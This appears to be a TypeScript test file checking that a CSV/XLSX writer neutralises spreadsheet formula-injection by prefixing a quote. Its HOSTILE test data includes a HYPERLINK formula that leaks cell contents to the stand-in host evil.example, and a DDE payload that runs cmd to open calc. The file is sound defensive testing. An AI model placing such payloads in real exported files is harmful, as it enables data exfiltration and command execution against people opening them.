import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { Readable } from 'node:stream';
import { neutraliseCell, TableCell, writeCsv, writeXlsx } from '../../src/common/tabular-writer';
import { bufferOf } from '../../src/population/register-file';

/** What a spreadsheet takes for a formula when a cell's text starts with it (OWASP, CSV Injection). */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  '@SUM(1)',
  '+1',
  '-1',
  '-5',
  '=1+1',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
];

describe(neutraliseCell.name, () => {
  it.each(HOSTILE)('puts a single quote before %j', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each(['张三', '', '5108**************', '1968-03-15', '因病', "'已引用", ' =前有空格', '户=1', 'a+b', '0', '3.5'])(
    'leaves %j as it is',
    (value) => {
      expect(neutraliseCell(value)).toBe(value);
    },
  );

  it('keeps numbers as numbers, negative ones too', () => {
    expect(neutraliseCell(-5)).toBe(-5);
    expect(neutraliseCell(0)).toBe(0);
    expect(neutraliseCell(42)).toBe(42);
  });

  it('quotes exactly the text that starts with a trigger, changing nothing else', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const out = neutraliseCell(text);
        if (TRIGGERS.some((t) => text.startsWith(t))) expect(out).toBe(`'${text}`);
        else expect(out).toBe(text);
        // Whatever it was, the result no longer starts with a trigger, and a second pass changes nothing.
        expect(TRIGGERS.some((t) => out.startsWith(t))).toBe(false);
        expect(neutraliseCell(out)).toBe(out);
      }),
    );
  });
});

describe('the table writers', () => {
  const rows: TableCell[][] = [['姓名', '数', '说明'], ...HOSTILE.map((value, i): TableCell[] => [value, -(i + 1), `第${i}行`])];

  it('write every text cell of a CSV through the guard, numbers as numbers', async () => {
    const text = (await bufferOf((out) => writeCsv(out, rows))).toString('utf8').replace(/^\ufeff/, '');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")",-1,第0行`);
    expect(text).toContain("'@SUM(1),-2,第1行");
    expect(text).toContain("'+1,-3,");
    expect(text).toContain("'-1,-4,");
    expect(text).toContain("'\t=1,-7,");
    expect(text).toContain(`"'\r=1",-8,`);
    // No field of the file starts with a trigger (a quoted field: its first character inside the quotes).
    for (const line of text.split('\r\n').filter(Boolean)) {
      for (const field of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        const value = field.replace(/,$/, '').replace(/^"(.*)"$/s, '$1');
        if (/^-\d+$/.test(value)) continue; // the number column
        expect(TRIGGERS.some((t) => value.startsWith(t))).toBe(false);
      }
    }
  });

  it('write every text cell of an XLSX through the guard, numbers as number cells', async () => {
    const bytes = await bufferOf((out) => writeXlsx(out, '表', rows));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([bytes]));
    const sheet = workbook.worksheets[0];
    HOSTILE.forEach((value, i) => {
      const row = sheet.getRow(i + 2);
      // XML reads a carriage return in text as a line feed: the quote stays in front either way.
      expect(row.getCell(1).value).toBe(`'${value}`.replace(/\r/g, '\n'));
      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(2).value).toBe(-(i + 1));
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    });
  });
});
